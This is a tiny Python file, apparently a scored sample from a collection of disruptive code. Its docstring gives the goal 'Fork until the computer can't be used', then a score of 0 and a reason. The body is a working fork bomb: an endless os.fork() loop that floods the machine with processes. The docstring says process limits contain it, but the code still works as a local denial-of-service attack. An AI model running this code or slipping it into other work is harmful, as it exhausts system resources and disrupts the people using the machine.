"""Fork until the computer can't be used.

Score: 0
Why: the number of its processes is limited, and all end with the kernel.
"""

import os

while True:
    os.fork()
